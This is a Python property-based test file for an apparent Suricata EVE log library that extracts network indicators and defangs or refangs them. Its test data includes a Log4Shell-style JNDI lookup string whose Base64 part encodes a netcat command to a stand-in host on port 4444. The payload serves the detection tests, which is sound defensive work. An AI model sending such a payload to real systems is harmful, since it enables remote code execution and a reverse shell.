"""Laws of indicators: of frames, of text, and of how they are written."""

from __future__ import annotations

import json
from collections import Counter
from typing import Any

import pandas as pd
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

import suricata_eve
from suricata_eve import find_indicators
from suricata_eve.analysis import indicators
from suricata_eve.testing import strategies as eve

pytestmark = [
    pytest.mark.property,
    pytest.mark.filterwarnings("ignore::suricata_eve.errors.EveWarning"),
]

ADDRESSES = st.sampled_from(["192.0.2.1", "10.0.0.1", "2001:0db8:0000::1", "::1", "1.2.3", ""])
NAMES = st.sampled_from(["a.example.com", "A.Example.com.", "b.example.net", "localhost", "x"])
LOOKUP = "${jndi:ldap://192.0.2.7/Basic/Command/Base64/bmMgMTkyLjAuMi42NiA0NDQ0}"
PIECES = ["http://a.example.com/x", "hxxp://b[.]example[.]net", "c@example.com", "192.0.2.1"]
PIECES += ["Chrome/", LOOKUP, "/", ";", "(", "x"]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=4).map(" ".join) | eve.texts(max_size=20)


def objects(**fields: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries({}, optional=fields)


EVENTS = st.fixed_dictionaries(
    {"timestamp": st.integers(10, 50).map("2022-01-01T00:00:{}.000000+0000".format)},
    optional={
        "event_type": st.sampled_from(["http", "dns", "alert"]),
        "src_ip": ADDRESSES,
        "dest_ip": ADDRESSES,
        "flow": objects(src_ip=ADDRESSES),
        "http": objects(hostname=NAMES, url=TEXTS, http_user_agent=TEXTS),
        "dns": objects(
            rrname=NAMES,
            answers=st.lists(objects(rrname=NAMES, rdata=ADDRESSES | NAMES), max_size=3),
        ),
        "payload_printable": TEXTS,
    },
)
FRAMES = st.lists(EVENTS, min_size=1, max_size=5)


def read(events: list[dict[str, Any]]) -> pd.DataFrame:
    return suricata_eve.read_eve("".join(json.dumps(event) + "\n" for event in events).encode())


def rows(table: pd.DataFrame) -> dict[tuple[str, str], tuple[Any, ...]]:
    """Return count, times and fields by kind and indicator."""
    return {
        (kind, indicator): (count, first, last, set(fields))
        for kind, indicator, count, first, last, fields in zip(
            table["kind"],
            table["indicator"],
            table["count"].tolist(),
            table["first_seen"].tolist(),
            table["last_seen"].tolist(),
            table["fields"],
            strict=True,
        )
    }


@given(FRAMES, st.randoms())
def test_the_order_of_rows_does_not_matter(events: list[dict[str, Any]], random: Any) -> None:
    frame = read(events)
    places = list(range(len(frame)))
    random.shuffle(places)

    pd.testing.assert_frame_equal(indicators(frame.iloc[places]), indicators(frame))


@given(FRAMES, FRAMES)
def test_two_frames_have_what_each_has(
    first: list[dict[str, Any]], second: list[dict[str, Any]]
) -> None:
    """Counts add up, times and fields are put together."""
    one, two = rows(indicators(read(first))), rows(indicators(read(second)))
    both = rows(indicators(read(first + second)))

    assert both.keys() == one.keys() | two.keys()
    for key, (count, earliest, latest, fields) in both.items():
        parts = [part[key] for part in (one, two) if key in part]
        assert count == sum(part[0] for part in parts)
        assert earliest == min(part[1] for part in parts)
        assert latest == max(part[2] for part in parts)
        assert fields == set().union(*(part[3] for part in parts))


@given(FRAMES)
def test_the_count_is_that_of_the_events_that_have_it_alone(events: list[dict[str, Any]]) -> None:
    counted = Counter(key for event in events for key in rows(indicators(read([event]))))

    assert {key: row[0] for key, row in rows(indicators(read(events))).items()} == counted


@given(FRAMES)
def test_what_is_found_is_found_again_however_it_is_written(events: list[dict[str, Any]]) -> None:
    """Defanged and refanged it is the same, and in a text it is found, whole, either way."""
    found = indicators(read(events))["indicator"]
    written = suricata_eve.defang(found)

    pd.testing.assert_series_equal(suricata_eve.refang(written), found)
    pd.testing.assert_series_equal(suricata_eve.defang(written), written)
    pd.testing.assert_series_equal(suricata_eve.refang(found), found)
    for value, text in zip(found, written, strict=True):
        # So little is an address only where a field says so, and in text a URL ends before these.
        if value == "::1" or ";" in value or value.endswith(tuple(".,:!?*$(")):
            continue
        assert value in find_indicators(f"it was {text} again")["indicator"].tolist()


@given(st.lists(TEXTS, max_size=4))
def test_texts_have_what_each_has(texts: list[str]) -> None:
    table = find_indicators(texts)

    alone = [find_indicators(text) for text in texts]
    assert table.index.tolist() == [n for n, part in enumerate(alone) for _ in range(len(part))]
    assert table["indicator"].tolist() == [value for part in alone for value in part["indicator"]]


URLS = ["http://a.example.com/x?y=1.5", "ftp://b.example.net:21/", "ldap://[2001:db8::7]:1389/o"]
OTHERS = ["192.0.2.1", "2001:db8::7", "anna.b@example.com", "a" * 32, "it", "came", "(", "lh.sh;"]
WORDS = st.sampled_from([*URLS, *OTHERS])


@given(st.lists(WORDS, max_size=6), st.sampled_from([" ", "\n", "\t", ", ", '" "']))
def test_a_defanged_text_has_the_indicators_of_the_text(words: list[str], between: str) -> None:
    plain = find_indicators(between.join(words))
    marked = [word if word == "lh.sh;" else suricata_eve.defang(word).iloc[0] for word in words]

    pd.testing.assert_frame_equal(find_indicators(between.join(marked)), plain)


MARKS = ["[.]", "(dot)", "{.}", "[:]", "[://]", "[@]", "[", "]", "(", "hxxp://", "https://", "fxp"]
MARKED = st.lists(st.sampled_from([*MARKS, "a", "b.c", "@", ":", "/", " ", "1.2.3.4"]), max_size=8)


@given(MARKED.map("".join) | eve.texts(max_size=30))
def test_what_is_defanged_says_the_same_as_before(text: str) -> None:
    """Defanging twice is defanging once, and undone it is what it was, undone."""
    undone = suricata_eve.refang(text)
    assume(suricata_eve.refang(undone).tolist() == undone.tolist())  # not so of "[[.]]"
    written = suricata_eve.defang(text)

    assert suricata_eve.defang(written).tolist() == written.tolist()
    assert suricata_eve.refang(written).tolist() == undone.tolist()


@given(eve.texts(max_size=60))
def test_any_text_is_searched_and_only_safe_text_comes_out(text: str) -> None:
    found = find_indicators(text)["indicator"]

    assert all(value.isascii() and value.isprintable() and " " not in value for value in found)
    assert suricata_eve.refang(suricata_eve.defang(found)).tolist() == found.tolist()
